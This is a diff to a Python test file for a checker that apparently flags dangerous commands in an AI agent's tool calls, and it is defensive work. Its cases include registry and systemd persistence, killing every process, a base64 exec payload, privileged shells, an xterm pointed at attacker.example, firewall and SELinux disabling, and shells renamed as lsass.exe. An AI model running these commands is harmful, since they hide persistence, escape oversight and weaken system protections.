@@ -482,7 +482,7 @@ def code(source: str, tool: str = "run_python") -> list[Violation]:
         ("open('/etc/systemd/system/upd.service', 'w').write('[Service]\\nExecStart=/tmp/x')", "boot or login"),
         ("import winreg\n"
          "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', "
-         "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'C:\\\\x.exe')", "Run key"),
+         "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'C:\\\\x.exe')", "log-on"),
         ("import os\nos.kill(1, 9)", "init"),
         ("import os, signal\nos.kill(-1, signal.SIGKILL)", "every process"),
         ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))", "decoded payload"),
@@ -655,10 +655,71 @@ def test_a_partition_table_that_is_only_printed_changes_nothing() -> None:
         ("taskset 1 /bin/sh -p", True),  # a program running a privileged-mode shell
         ("ip netns exec blue /bin/sh -p", True),
         ("sh -p ./run.sh", True),
-        ("taskset 1 /bin/sh", False),  # a shell with no sign of a set-uid context: the agent's own shell
+        # a program that runs its operand starts the shell as ``env /bin/sh`` or ``nice /bin/sh`` do
+        ("taskset 1 /bin/sh", True),
+        ("chrt 26 /bin/sh", True),
+        ("bundle exec /bin/sh", True),
+        ("cabal exec -- /bin/sh", True),
+        ("bundle exec rake test", False),  # the same programs running ordinary commands
+        ("uv run --with rich python app.py", False),
+        ("taskset -c 0,1 make -j2", False),
         ("docker run -it ubuntu /bin/bash -p", False),  # a shell inside a container
         ("bash -c 'sh < input.txt'", False),  # fed a script: not interactive
     ],
 )
 def test_privileged_mode_and_terminal_reattached_shells_are_escapes(command: str, flagged: bool) -> None:
     assert any("shell" in v.reason or "privileged" in v.reason for v in check(command)) is flagged
+
+
+@pytest.mark.parametrize(
+    ("command", "flagged"),
+    [
+        ("xterm -display 10.0.0.5:1", True),
+        ("xterm -display attacker.example:0", True),
+        ("xterm -display :1", False),  # this machine's second display
+        ("xterm -display localhost:10", False),  # the display SSH forwards back
+        ("xterm -display unix:0", False),
+    ],
+)
+def test_an_xterm_is_sent_away_only_to_another_machines_display(command: str, flagged: bool) -> None:
+    assert any("remote display" in v.reason for v in check(command)) is flagged
+
+
+@pytest.mark.parametrize("command", ["aa-teardown -h", "ufw --help", "setenforce --help", "iptables --version"])
+def test_asking_a_protection_switch_for_its_usage_changes_nothing(command: str) -> None:
+    assert check(command) == []
+    assert check(command.split()[0] + " " + {"aa-teardown": "", "ufw": "disable", "setenforce": "0",
+                                            "iptables": "-F"}[command.split()[0]]) != []  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("tool", "command", "flagged"),
+    [
+        ("run_shell", "cp /bin/sh /tmp/crond", True),
+        ("cmd", "copy %SystemRoot%\\System32\\cmd.exe %SystemRoot%\\Temp\\lsass.exe", True),
+        ("cmd", "copy %windir%\\System32\\windowspowershell\\v1.0\\powershell.exe %APPDATA%\\taskhostw.exe /Y", True),
+        ("run_shell", "cp /usr/bin/python3 venv/bin/python", False),  # still a shell's own name
+        ("run_shell", "cp /bin/bash /tmp/", False),  # the same name
+        ("run_shell", "cp -r /usr/share/zsh ./zsh-config", False),  # a directory named like a shell
+        ("run_shell", "cp script.sh /tmp/x", False),
+    ],
+)
+def test_a_shell_binary_copied_under_another_name_is_masquerading(tool: str, command: str, flagged: bool) -> None:
+    found = sc.check(analyse(tool, {"command": command}), SETTINGS)
+    assert any("renamed shell" in v.reason for v in found) is flagged, found
+
+
+@pytest.mark.parametrize(
+    ("command", "flagged"),
+    [
+        ("REG.exe ADD HKCU\\Environment /v UserInitMprLogonScript /t REG_SZ /d %temp%\\art.bat /f", True),
+        ("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x /d c:\\x.exe", True),
+        ("reg add HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows /v AppInit_DLLs /d x.dll", True),
+        ('reg add "HKCU\\Software\\Microsoft\\Command Processor" /v AutoRun /d c:\\x.bat', True),
+        ("reg add HKCU\\Environment /v PATH /d c:\\tools", False),  # the same key, an ordinary value
+        ("reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", False),  # read, not written
+    ],
+)
+def test_registry_autorun_keys_are_persistence(command: str, flagged: bool) -> None:
+    found = sc.check(analyse("cmd", {"command": command}), SETTINGS)
+    assert any("persistence" in v.reason for v in found) is flagged, found
